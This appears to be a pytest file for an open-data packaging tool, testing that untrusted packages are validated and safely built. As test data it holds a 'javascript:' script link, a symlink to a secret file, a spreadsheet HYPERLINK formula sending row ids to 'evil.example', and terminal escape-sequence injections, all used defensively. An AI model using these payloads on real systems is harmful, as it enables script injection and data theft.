"""A package from someone else: what it holds is shown and copied, never run or followed
out of it (a licence link of «javascript:», a symlink to a file outside the package)."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from openpyxl import load_workbook

from opendata.build import build
from opendata.validate import ValidationReport, ValidPackage
from tests.helpers import run_cli

SCRIPT = "javascript:alert(document.domain)"
SOURCE = "sources/kolomyia-2021-communication-plan.txt"


def set_licence_path(package: Path, path: str) -> None:
    descriptor_path = package / "datapackage.json"
    descriptor = json.loads(descriptor_path.read_text(encoding="utf-8"))
    descriptor["licenses"][0]["path"] = path
    descriptor_path.write_text(json.dumps(descriptor, ensure_ascii=False), encoding="utf-8")


def test_a_licence_path_that_is_no_web_address_is_an_error(plan_copy, tmp_path):
    """The plan page made it a link: a click ran the script on the page's site."""
    set_licence_path(plan_copy, SCRIPT)
    checked = run_cli("validate", plan_copy, "--lang", "en")
    assert checked.returncode == 1, checked.stdout
    assert (
        f"✗ The path of licence «Creative Commons Attribution 4.0» in «licenses» is «{SCRIPT}», "
        "not an http(s) address" in checked.stdout
    )
    assert "Fix: Give the full address of the licence's text in its «path», starting with https://" in (
        checked.stdout
    )
    in_ukrainian = run_cli("validate", plan_copy)
    assert f"Шлях ліцензії «Creative Commons Attribution 4.0» у «licenses» — «{SCRIPT}»" in (
        in_ukrainian.stdout
    )
    built = run_cli("build", plan_copy, "--out", tmp_path / "dist")
    assert built.returncode == 1 and not (tmp_path / "dist" / "index.html").exists()


def test_the_plan_page_links_only_a_web_address_of_the_licence(plan_copy, tmp_path):
    """Even built without validating (a ValidPackage made by hand), the page shows such a
    licence's title as text, not as a link."""
    set_licence_path(plan_copy, SCRIPT)
    unchecked = ValidPackage(plan_copy, ValidationReport(target=str(plan_copy)))
    build(unchecked, tmp_path / "dist")
    page = (tmp_path / "dist" / "index.html").read_text(encoding="utf-8")
    assert 'href="javascript:' not in page
    assert ' Creative Commons Attribution 4.0.</p>' in page


def test_the_plan_page_links_a_licence_at_a_web_address(plan_copy, tmp_path):
    run_cli("build", plan_copy, "--out", tmp_path / "dist")
    page = (tmp_path / "dist" / "index.html").read_text(encoding="utf-8")
    link = '<a href="https://creativecommons.org/licenses/by/4.0/">Creative Commons Attribution 4.0</a>'
    assert link in page


def test_a_source_linked_to_a_file_outside_the_package_is_refused(plan_copy, tmp_path):
    """`build` copied the file the link led to (a secret) into the build as the decision."""
    secret = tmp_path / "secret.txt"
    secret.write_text("password=hunter2\n", encoding="utf-8")
    (plan_copy / SOURCE).unlink()
    (plan_copy / SOURCE).symlink_to(secret)
    checked = run_cli("validate", plan_copy, "--lang", "en")
    assert checked.returncode == 1
    assert f"✗ File «{SOURCE}» is a link (symlink) to «{secret.resolve()}», outside the package folder" in (
        checked.stdout
    )
    assert f"Fix: Put the file itself (a copy, not a link) in place of the link «{SOURCE}»" in checked.stdout
    built = run_cli("build", plan_copy, "--out", tmp_path / "dist")
    assert built.returncode == 1
    copied = [p for p in tmp_path.joinpath("dist").rglob("*") if p.is_file()]
    assert not any(b"hunter2" in p.read_bytes() for p in copied)


def test_a_table_linked_to_a_file_outside_the_package_is_refused(plan_copy, tmp_path):
    outside = tmp_path / "people.csv"
    outside.write_bytes((plan_copy / "people.csv").read_bytes())
    (plan_copy / "people.csv").unlink()
    (plan_copy / "people.csv").symlink_to(outside)
    checked = run_cli("validate", plan_copy, "--lang", "en", "--format", "json")
    report = json.loads(checked.stdout)
    linked = [e for e in report["errors"] if e["type"] == "path-links-out"]
    assert checked.returncode == 1 and len(linked) == 1
    assert linked[0]["resource"] == "people" and linked[0]["path"] == "people.csv"
    assert str(outside.resolve()) in linked[0]["message"]


def test_a_link_that_stays_inside_the_package_is_fine(plan_copy):
    (plan_copy / "copies").mkdir()
    (plan_copy / "copies" / "people.csv").write_bytes((plan_copy / "people.csv").read_bytes())
    (plan_copy / "people.csv").unlink()
    (plan_copy / "people.csv").symlink_to(plan_copy / "copies" / "people.csv")
    checked = run_cli("validate", plan_copy, "--lang", "en")
    assert checked.returncode == 0, checked.stdout


FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"click")'


def add_column_named(package: Path, table: str, name: str) -> None:
    schema_path = package / "schemas" / f"{table}.json"
    schema = json.loads(schema_path.read_text(encoding="utf-8"))
    schema["fields"].append({"name": name, "type": "string"})
    schema_path.write_text(json.dumps(schema, ensure_ascii=False, indent=2), encoding="utf-8")
    lines = (package / f"{table}.csv").read_text(encoding="utf-8").splitlines()
    quoted = '"' + name.replace('"', '""') + '"'
    rows = [f"{lines[0]},{quoted}", *(f"{line}," for line in lines[1:])]
    (package / f"{table}.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")


def test_a_field_named_like_a_formula_is_a_warning_and_text_in_the_workbook(plan_copy, tmp_path):
    """The workbook's header cell was a live formula: a link that sent the row's id away."""
    add_column_named(plan_copy, "people", FORMULA)
    checked = run_cli("validate", plan_copy, "--lang", "en")
    assert checked.returncode == 0, checked.stdout
    assert (
        f"! row 1, field «{FORMULA}»: The name of field «{FORMULA}» starts with «=»: Excel opening the CSV "
        "runs the header as a formula" in checked.stdout
    )
    assert "Fix: Give the field a name that starts with a letter" in checked.stdout
    built = run_cli("build", plan_copy, "--out", tmp_path / "dist")
    assert built.returncode == 0, built.stderr
    header = load_workbook(tmp_path / "dist" / "kolomyia-communication-plan-2021.xlsx")["people"][1]
    assert header[-1].value == FORMULA and header[-1].data_type == "s"


@pytest.mark.parametrize("command", ["build", "publish"])
def test_a_field_named_with_a_control_character_is_an_error_not_a_traceback(plan_copy, tmp_path, command):
    """«note\\x07» in the schema and the header passed `validate`, and then the workbook's
    header cell stopped build and publish with openpyxl's IllegalCharacterError."""
    add_column_named(plan_copy, "progress_reports", "note\x07")
    checked = run_cli("validate", plan_copy, "--lang", "en")
    assert checked.returncode == 1, checked.stdout
    assert "progress_reports.csv  (1 error, 0 warnings)" in checked.stdout
    assert (
        "✗ row 1, field «note␇»: The name of field «note␇» holds an invisible control character "
        "(U+0007): the XLSX workbook that build and publish write refuses such a header." in checked.stdout
    )
    assert "Fix: Delete the character from the field's name in a text editor" in checked.stdout
    # publish refuses before it asks the portal anything: no portal at this address
    where = ["--dry-run", "--org", "my-city", "--portal", "http://127.0.0.1:9"]
    refused = run_cli(command, plan_copy, *(["--out", tmp_path / "dist"] if command == "build" else where))
    assert refused.returncode == 1 and "Traceback" not in refused.stderr
    assert "opendata validate" in refused.stderr + refused.stdout
    assert not (tmp_path / "dist").exists()


def test_control_characters_of_a_cell_are_shown_not_run_by_the_terminal(tmp_path):
    """validate printed a cell's escape sequences raw: the terminal turned red and took the
    cell's title for its window's."""
    cell = "\x1b[31mRED\x1b]0;pwned\x07\x7f\x9b\tend"
    table = tmp_path / "esc.csv"
    table.write_text(f'a,b\n1,2\n"{cell}",3\n', encoding="utf-8")
    schema = tmp_path / "esc.schema.json"
    schema.write_text(json.dumps({"fields": [{"name": name, "type": "integer"} for name in "ab"]}))
    shown = run_cli("validate", table, "--schema", schema, "--lang", "en")
    assert shown.returncode == 1
    assert "Value «␛[31mRED␛]0;pwned␇␡<U+009B>" in shown.stdout  # then the tab, as spaces
    assert "end» is not an integer." in shown.stdout
    assert not any(character in shown.stdout for character in "\x1b\x07\x7f\x9b")
    as_json = run_cli("validate", table, "--schema", schema, "--format", "json")
    assert json.loads(as_json.stdout)["errors"][0]["cell"] == cell  # the real value: JSON escapes it


@pytest.mark.parametrize("terminal", [False, True])
def test_control_characters_of_a_column_name_are_shown_not_run_by_the_terminal(tmp_path, terminal):
    """Cells were shown as symbols, but a column's name went to the terminal raw, in the
    message of its extra cell or its wrong type: «na\\x1b[31mred» turned it red."""
    name = "na\x1b[31mred\x1b]0;pwned\x07"
    table = tmp_path / "esc.csv"
    table.write_text(f'id,"{name}"\n1,x\n2,y,extra\n', encoding="utf-8")
    env = {**os.environ, "FORCE_COLOR": "1"} if terminal else None  # Rich: colour, as on a terminal
    shown = run_cli("validate", table, "--lang", "en", env=env)
    assert shown.returncode == 1
    assert "«na␛[31mred␛]0;pwned␇»" in shown.stdout
    assert "\x1b[31mred" not in shown.stdout and "\x07" not in shown.stdout


def test_a_control_character_in_a_schemas_title_is_shown_in_the_workbook_not_a_traceback(plan_copy, tmp_path):
    """A field's title with «\\x07» passed validate, then build stopped with openpyxl's
    IllegalCharacterError: the workbook's dictionary sheet cannot hold the character."""
    schema_path = plan_copy / "schemas" / "people.json"
    schema = json.loads(schema_path.read_text(encoding="utf-8"))
    schema["fields"][1]["title"] += "\x07"
    schema_path.write_text(json.dumps(schema, ensure_ascii=False), encoding="utf-8")
    built = run_cli("build", plan_copy, "--out", tmp_path / "dist")
    assert built.returncode == 0, built.stderr
    sheet = load_workbook(tmp_path / "dist" / "kolomyia-communication-plan-2021.xlsx")["dictionary"]
    titles = [row[3] for row in sheet.iter_rows(values_only=True) if row[0] == "people"]
    assert titles[1].endswith("␇")
